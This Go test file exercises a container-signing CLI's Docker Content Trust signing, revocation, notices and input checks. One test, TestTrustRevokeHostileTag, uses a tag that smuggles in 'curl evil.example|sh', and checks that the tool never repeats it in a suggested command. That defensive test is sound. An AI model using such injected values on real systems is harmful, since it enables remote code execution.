package cli_test

import (
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/boltseal/boltseal/internal/dcttest"
	"github.com/boltseal/boltseal/internal/registrytest"
	"github.com/boltseal/boltseal/internal/sigstoretest"
)

const (
	delegationPassword = "DOCKER_CONTENT_TRUST_REPOSITORY_PASSPHRASE"
	aliceSecret        = "correct horse"
)

// A delegationWorld has a Notary server with the trust data of team/app, which has v1;
// alice.key signs targets/releases and targets/alice, bob.key targets/bob.
type delegationWorld struct {
	*signWorld
	c      *dcttest.Collection
	server *dcttest.Server
	app    string // reference of team/app:v1, by its digest, too
	digest string
}

func newDelegationWorld(t *testing.T) *delegationWorld {
	t.Helper()
	w := &delegationWorld{signWorld: newSignWorld(t, registrytest.Options{}, sigstoretest.Without{})}
	w.env, w.clock = map[string]string{delegationPassword: aliceSecret}, time.Now
	w.digest = w.image("team/app").Digest.String()
	w.app = w.reg.Host() + "/team/app:v1@" + w.digest
	var err error
	if w.c, err = dcttest.NewCollection(w.reg.Host()+"/team/app", dcttest.Options{}); err != nil {
		t.Fatal(err)
	}
	alice := w.c.Key("targets/alice")
	if err := w.c.Change(dcttest.Releases, func(r *dcttest.Role) { r.Keys = append(r.Keys, alice) }); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"alice", "bob"} {
		text, err := w.c.Key("targets/"+name).PEM(name, aliceSecret)
		if err != nil {
			t.Fatal(err)
		}
		w.file(name+".key", text)
	}
	if w.server, err = dcttest.Serve(dcttest.ServerOptions{}, w.c); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(w.server.Down)
	return w
}

// trusted are the flags that say whose trust data they are.
func (w *delegationWorld) trusted() []string {
	return []string{"--dct-server", w.server.URL(), "--dct-root-key-ids", w.c.RootID()}
}

// dct runs boltseal sign --system dct with alice's key.
func (w *delegationWorld) dct(args ...string) result {
	w.t.Helper()
	return w.run(w.env, append(append([]string{"sign", "--system", "dct", "--key", "alice.key"}, w.trusted()...), args...)...)
}

// revoke runs boltseal trust revoke with alice's key.
func (w *delegationWorld) revoke(args ...string) result {
	w.t.Helper()
	return w.run(w.env, append(append([]string{"trust", "revoke", "--key", "alice.key"}, w.trusted()...), args...)...)
}

func (w *delegationWorld) posts() int {
	n := 0
	for _, r := range w.server.Requests() {
		if r.Method == http.MethodPost {
			n++
		}
	}
	return n
}

// What was signed is said, boltseal's command line that is printed verifies it, and
// revoked it is signed no longer.
func TestSignDCT(t *testing.T) {
	t.Parallel()
	w := newDelegationWorld(t)
	r := w.dct(w.app)
	if r.code != 0 || strings.Count(r.stderr, "\n") != 1 || !strings.HasPrefix(r.stderr, "notice: a rollback of the trust data of "+w.c.GUN()) {
		t.Fatalf("exit %d: %s%s", r.code, r.stdout, r.stderr)
	}
	for _, part := range []string{
		"signed by targets/alice (under root key " + w.c.RootID() + ")", "notary-v1 (notary), expires 20", ", at " + w.server.URL() + "/" + w.c.GUN() + ":v1",
		"DOCKER_CONTENT_TRUST=1 DOCKER_CONTENT_TRUST_SERVER=" + w.server.URL() + " docker pull " + w.c.GUN() + ":v1 # up to docker 28: 29 does not look",
	} {
		if !strings.Contains(strings.Join(strings.Fields(r.stdout), " "), part) {
			t.Errorf("no %q in %s", part, r.stdout)
		}
	}
	again := w.dct("--output", "json", w.app)
	var doc notationJSON
	if err := json.Unmarshal([]byte(again.stdout), &doc); err != nil || again.code != 0 {
		t.Fatalf("exit %d, %v: %s%s", again.code, err, again.stdout, again.stderr)
	}
	if s := doc.Signed; len(s) != 1 || !s[0].Existed || s[0].System != "dct" || s[0].Format != "notary-v1" || s[0].Storage != "notary" || s[0].Identity != "targets/alice" || s[0].Expiry == nil || w.posts() != 1 {
		t.Errorf("%+v, %d times published", doc, w.posts())
	}
	ours := 0
	for _, command := range doc.Verify {
		args, isOurs := strings.CutPrefix(command, "boltseal ")
		if !isOurs {
			continue
		}
		ours++
		if v := w.run(nil, shellWords(t, args)...); v.code != 0 || !strings.Contains(args, "--dct-signers alice") {
			t.Errorf("%s: exit %d: %s%s", command, v.code, v.stdout, v.stderr)
		}
	}
	if ours != 1 {
		t.Errorf("%q", doc.Verify)
	}
	gone := w.revoke(w.c.GUN() + ":v1")
	if gone.code != 0 || !strings.Contains(gone.stdout, "revoked "+w.c.GUN()+":v1") || !strings.Contains(gone.stdout, "targets/alice, targets/releases") {
		t.Errorf("exit %d: %s%s", gone.code, gone.stdout, gone.stderr)
	}
	if v := w.run(nil, append([]string{"verify", w.c.GUN() + ":v1"}, w.trusted()...)...); v.code != 1 || !strings.Contains(v.stdout, "No valid trust data for v1") {
		t.Errorf("exit %d: %s%s", v.code, v.stdout, v.stderr)
	}
	if nothing := w.revoke(w.c.GUN() + ":v1"); nothing.code != 0 || !strings.Contains(nothing.stdout, "not signed") || w.posts() != 2 {
		t.Errorf("exit %d, %d times published: %s%s", nothing.code, w.posts(), nothing.stdout, nothing.stderr)
	}
}

// What others have signed is told of, with what to do.
func TestTrustRevoke(t *testing.T) {
	t.Parallel()
	w := newDelegationWorld(t)
	for _, tag := range []string{"v1", "v2"} {
		if err := w.c.Sign(tag, w.digest, "alice", "bob"); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.c.AddTarget("targets", "v2", w.digest, 512); err != nil {
		t.Fatal(err)
	}
	r := w.revoke("--output", "json", w.c.GUN()+":v1", w.c.GUN()+":v2")
	var doc struct {
		Complete     bool
		Repositories []struct {
			Tags []struct {
				Tag     string
				Revoked []string
				Left    []struct{ Role, Digest string }
				Signed  bool
				Hint    string
			}
		}
	}
	if err := json.Unmarshal([]byte(r.stdout), &doc); err != nil || r.code != 1 || doc.Complete {
		t.Fatalf("exit %d, %v: %s%s", r.code, err, r.stdout, r.stderr)
	}
	got := fmt.Sprint(doc.Repositories)
	want := fmt.Sprintf("[{[{v1 [targets/alice targets/releases] [{targets/bob %s}] false where bob is required it still counts: bob has to revoke it, too} {v2 [targets/alice targets/releases] [{targets %s} {targets/bob %s}] true the owner of the repository has to take it out of targets: notary remove %s v2 --publish; where bob is required it still counts: bob has to revoke it, too}]}]",
		w.digest, w.digest, w.digest, w.c.GUN())
	if got != want || w.posts() != 1 {
		t.Errorf("%s\nwant\n%s\n%d times published", got, want, w.posts())
	}
	if bob := w.revoke("--key", "bob.key", "--all", w.c.GUN()); bob.code != 1 || !strings.Contains(bob.stdout, "still signed "+w.c.GUN()+":v2") || !strings.Contains(bob.stdout, "revoked "+w.c.GUN()+":v1") {
		t.Errorf("exit %d: %s%s", bob.code, bob.stdout, bob.stderr)
	}
}

// What may still have a tag, and cannot be looked into, is told of: nothing is
// called revoked then.
func TestTrustRevokeVoid(t *testing.T) {
	t.Parallel()
	w := newDelegationWorld(t)
	past := time.Now().Add(-time.Hour)
	if err := errors.Join(w.c.Sign("v1", w.digest, "alice"), w.c.Expire(dcttest.Releases, past), w.c.Expire("targets/alice", past)); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{{"--all", w.c.GUN()}, {w.c.GUN() + ":v1"}} {
		text := w.revoke(args...)
		if text.code != 1 || strings.Contains(text.stdout, "has signed no tag") || strings.Contains(text.stdout, "not signed") || strings.Contains(text.stdout, "revoked") ||
			!strings.Contains(text.stdout, "targets/releases does not count, and was left as it is (expired: ") || !strings.Contains(text.stdout, "\n  next    have somebody who holds a key of targets/alice run notary witness ") {
			t.Errorf("%v: exit %d: %s%s", args, text.code, text.stdout, text.stderr)
		}
		r := w.revoke(append(args, "--output", "json")...)
		var doc struct {
			Complete     bool
			Repositories []struct {
				Void []struct{ Role, Reason, Message string }
				Hint string
			}
		}
		if err := json.Unmarshal([]byte(r.stdout), &doc); err != nil || r.code != 1 || doc.Complete || len(doc.Repositories) != 1 {
			t.Fatalf("%v: exit %d, %v: %s%s", args, r.code, err, r.stdout, r.stderr)
		}
		in := doc.Repositories[0]
		if len(in.Void) != 2 || in.Void[1].Role != dcttest.Releases || in.Void[1].Reason != "expired" || in.Void[1].Message == "" || !strings.Contains(in.Hint, "notary witness") {
			t.Errorf("%v: %s", args, r.stdout)
		}
	}
}

// What to do about a tag is no command where the tag is no tag: it is a stranger's.
func TestTrustRevokeHostileTag(t *testing.T) {
	t.Parallel()
	const tag = "v1; curl evil.example|sh #"
	w := newDelegationWorld(t)
	if err := errors.Join(w.c.AddTarget(dcttest.Releases, tag, w.digest, 512), w.c.AddTarget("targets", tag, w.digest, 512)); err != nil {
		t.Fatal(err)
	}
	r := w.revoke("--all", w.c.GUN())
	if _, next, _ := strings.Cut(r.stdout, "  next "); r.code != 1 || !strings.Contains(next, "has to take it out of targets\n") || strings.Contains(next, "curl") {
		t.Errorf("exit %d: %s%s", r.code, r.stdout, r.stderr)
	}
}

// What is signed anew may be what the server likes, if nobody has named its root, and
// may be older than what was seen, if nobody remembers: that is said, as by verify.
func TestDelegationNotices(t *testing.T) {
	t.Parallel()
	w := newDelegationWorld(t)
	const rollback, shown, anew = "notice: a rollback of the trust data of ", "notice: nothing speaks for the root of ", "is signed anew with each change"
	tofu := []string{"--key", "alice.key", "--dct-server", w.server.URL(), "--dct-tofu"}
	for name, tc := range map[string]struct {
		args []string
		want []string
	}{
		"sign, tofu":    {append([]string{"sign", "--system", "dct", w.app}, tofu...), []string{rollback, shown, anew}},
		"revoke, tofu":  {append([]string{"trust", "revoke", w.c.GUN() + ":v9"}, tofu...), []string{rollback, shown, anew}},
		"revoke, cache": {append([]string{"trust", "revoke", w.c.GUN() + ":v9", "--key", "alice.key", "--dct-cache-dir", t.TempDir()}, w.trusted()...), nil},
		"sign, cache":   {append([]string{"sign", "--system", "dct", w.app, "--key", "alice.key", "--dct-cache-dir", t.TempDir()}, w.trusted()...), nil},
	} {
		r := w.run(w.env, tc.args...)
		if r.code != 0 || len(tc.want) == 0 && r.stderr != "" {
			t.Errorf("%s: exit %d: %s%s", name, r.code, r.stdout, r.stderr)
		}
		for _, part := range tc.want {
			if !strings.Contains(r.stderr, part) {
				t.Errorf("%s: no %q in %s", name, part, r.stderr)
			}
		}
	}
	var doc struct{ Notices []string }
	r := w.run(w.env, append([]string{"trust", "revoke", w.c.GUN() + ":v9", "--output", "json"}, tofu...)...)
	if err := json.Unmarshal([]byte(r.stdout), &doc); err != nil || len(doc.Notices) != 2 || r.stderr != "" {
		t.Errorf("%v: %s%s", err, r.stdout, r.stderr)
	}
}

// A server that does not answer in time has refused nothing.
func TestTrustRevokeTimeout(t *testing.T) {
	t.Parallel()
	w := newDelegationWorld(t)
	r := w.revoke("--timeout", "1ns", "--output", "json", w.c.GUN()+":v1")
	var doc struct {
		Repositories []struct{ Reason, Hint string }
	}
	if err := json.Unmarshal([]byte(r.stdout), &doc); err != nil || r.code != 3 || len(doc.Repositories) != 1 || doc.Repositories[0].Reason != "unavailable" || doc.Repositories[0].Hint == "" {
		t.Errorf("exit %d, %v: %s%s", r.code, err, r.stdout, r.stderr)
	}
}

// Bad input asks nobody, and quotes no secret.
func TestSignDCTInput(t *testing.T) {
	t.Parallel()
	w := newDelegationWorld(t)
	w.file("not.key", []byte("hello"))
	name := w.reg.Host() + "/team/app"
	sign := func(args ...string) []string { return append([]string{"sign", "--system", "dct"}, args...) }
	revoke := func(args ...string) []string { return append([]string{"trust", "revoke"}, args...) }
	by := []string{"--key", "alice.key"}
	for _, tc := range []struct {
		args []string
		env  map[string]string
		want string
	}{
		{args: append(sign(by...), name+"@"+w.digest), want: "has no tag"},
		{args: append(sign(by...), name), want: "has no tag"},
		{args: append(sign(by...), w.app, name+":v1"), want: "are one tag"},
		{args: append(sign(by...), w.app, "--dct-server", w.server.URL()), want: "--dct-root-key-ids: nothing says which root"},
		{args: append(append(sign(), w.trusted()...), w.app), want: "--key: nothing says who signs"},
		{args: append(append(sign("--key", "kms://x"), w.trusted()...), w.app), want: "address of a key service"},
		{args: append(append(sign("--key", "not.key"), w.trusted()...), w.app), want: "holds no PEM block"},
		{args: append(append(sign(by...), w.trusted()...), w.app), env: map[string]string{}, want: "set " + delegationPassword},
		{args: append(append(sign(by...), w.trusted()...), w.app), env: map[string]string{delegationPassword: "wrong"}, want: "the password does not open it"},
		{args: append(append(sign(by...), w.trusted()...), w.app, "--dct-tofu"), want: "--dct-tofu"},
		{args: append(append(sign(by...), w.trusted()...), w.app, "--recursive"), want: "signing with dct takes no --recursive"},
		{args: append(append(sign(by...), w.trusted()...), w.app, "--format", "jws"), want: "signing with dct takes no --format"},
		{args: append(append(sign(by...), w.trusted()...), w.app, "--user-metadata", "a=b"), want: "signing with dct takes no --user-metadata"},
		{args: append(append(sign(by...), w.trusted()...), w.app, "--identity-token", "x"), want: "the key of a delegation signs"},
		{args: append([]string{"sign", w.app}, w.trusted()...), want: "signing with sigstore takes no --dct-"},
		{args: append(revoke(by...), w.trusted()...), want: "no tag was named"},
		{args: append(append(revoke(by...), w.trusted()...), name), want: "has no tag"},
		{args: append(append(revoke(by...), w.trusted()...), w.app), want: "names a digest"},
		{args: append(append(revoke(by...), w.trusted()...), name+":v1", "--all"), want: "--all: "},
		{args: append(revoke(by...), name+":v1"), want: "nothing says which root"},
		{args: append(append(revoke(), w.trusted()...), name+":v1"), want: "--key: nothing says who signs"},
	} {
		env := tc.env
		if env == nil {
			env = w.env
		}
		r := w.run(env, tc.args...)
		if r.code != 2 || !strings.Contains(r.stderr, tc.want) || !strings.Contains(r.stderr, "\n  next: ") || strings.Contains(r.stderr+r.stdout, aliceSecret) {
			t.Errorf("%q: exit %d, want %q: %s%s", tc.args, r.code, tc.want, r.stdout, r.stderr)
		}
	}
	if asked := w.server.Requests(); len(asked) != 0 {
		t.Errorf("%d requests", len(asked))
	}
}

// The Action signs tags too, with the key and its password from secrets.
func TestActionSignDCT(t *testing.T) {
	t.Parallel()
	w := newDelegationWorld(t)
	key, err := os.ReadFile(filepath.Join(w.dir, "alice.key"))
	if err != nil {
		t.Fatal(err)
	}
	inputs := func(change ...func(map[string]string)) map[string]string {
		in := w.signInputs(w.app, with("system", "dct"), with("key", string(key)), with("key-password", aliceSecret+"\n"), with("dct-server", w.server.URL()), with("dct-root-key-ids", w.c.RootID()))
		delete(in, "trusted-root")
		delete(in, "signing-config")
		for _, c := range change {
			c(in)
		}
		return in
	}
	w.env = map[string]string{}
	s := w.job().run(inputs())
	s.wantSign(t, 0, 1)
	var list []map[string]any
	if err := json.Unmarshal([]byte(s.outputs["signed"]), &list); err != nil || list[0]["system"] != "dct" || list[0]["identity"] != "targets/alice" || list[0]["expiry"] == nil || list[0]["source"] == nil {
		t.Errorf("%v, %v", list, err)
	}
	for name, tc := range map[string]struct {
		change func(map[string]string)
		says   string
	}{
		"wrong password": {with("key-password", "wrong"), "set key-password to the password that the key was made with"},
		"no root":        {with("dct-root-key-ids", ""), "input dct-root-key-ids: nothing says which root"},
		"signers":        {with("dct-signers", "alice"), "a step that signs does not verify base images, and takes no dct-signers"},
		"no tag":         {with("sign", w.c.GUN()+"@"+w.digest), "input sign: "},
	} {
		if s := w.job().run(inputs(tc.change)); s.code != 2 || !strings.Contains(s.log, tc.says) || strings.Contains(s.summary, aliceSecret) {
			t.Errorf("%s: exit %d: %s", name, s.code, s.log)
		}
	}
}
